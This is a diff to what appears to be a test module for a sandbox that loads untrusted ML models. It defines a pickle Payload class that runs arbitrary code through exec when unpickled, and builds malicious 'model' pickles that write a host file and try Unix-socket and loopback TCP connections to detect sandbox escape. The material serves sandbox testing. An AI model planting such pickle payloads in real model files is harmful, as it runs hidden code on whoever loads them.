@@ -136,7 +136,7 @@ def baseline_features(rows: int = 2000, seed: int = 100, bins: int = 10) -> list
     return out
 
 
-class _Payload:
+class Payload:
     """Unpickling this runs `code` (what a malicious model does)."""
 
     def __init__(self, code: str) -> None:
@@ -146,10 +146,10 @@ class _Payload:
         return (exec, (self.code,))
 
 
-def escape_pickle(marker: str, tcp_port: int, unix_path: str, abstract_name: str) -> bytes:
-    """A 'model' whose payload writes a host file, then tries a host Unix socket, an abstract
-    socket and TCP to the host's loopback, recording in the file what it managed."""
-    code = f"""
+def escape_code(marker: str, tcp_port: int, unix_path: str, abstract_name: str) -> str:
+    """Payload code that writes a host file, then tries a host Unix socket, an abstract socket and
+    TCP to the host's loopback, recording in the file what it managed."""
+    return f"""
 import socket
 with open({marker!r}, "w") as f:
     f.write("payload ran\\n")
@@ -165,12 +165,16 @@ for family, address in ((socket.AF_UNIX, {unix_path!r}), (socket.AF_UNIX, "\\0" 
 s = socket.create_connection(("127.0.0.1", {tcp_port}), timeout=2)
 s.sendall(b"escaped")
 """
-    return pickle.dumps({"model": _Payload(code)})
+
+
+def escape_pickle(marker: str, tcp_port: int, unix_path: str, abstract_name: str) -> bytes:
+    """A raw pickle 'model' carrying the escape payload."""
+    return pickle.dumps({"model": Payload(escape_code(marker, tcp_port, unix_path, abstract_name))})
 
 
 def network_pickle(tcp_port: int) -> bytes:
     """A 'model' that only tries to reach the network."""
-    return pickle.dumps(_Payload(f"import socket; socket.create_connection(('127.0.0.1', {tcp_port}), timeout=2)"))
+    return pickle.dumps(Payload(f"import socket; socket.create_connection(('127.0.0.1', {tcp_port}), timeout=2)"))
 
 
 class MemoryHog(torch.nn.Module):
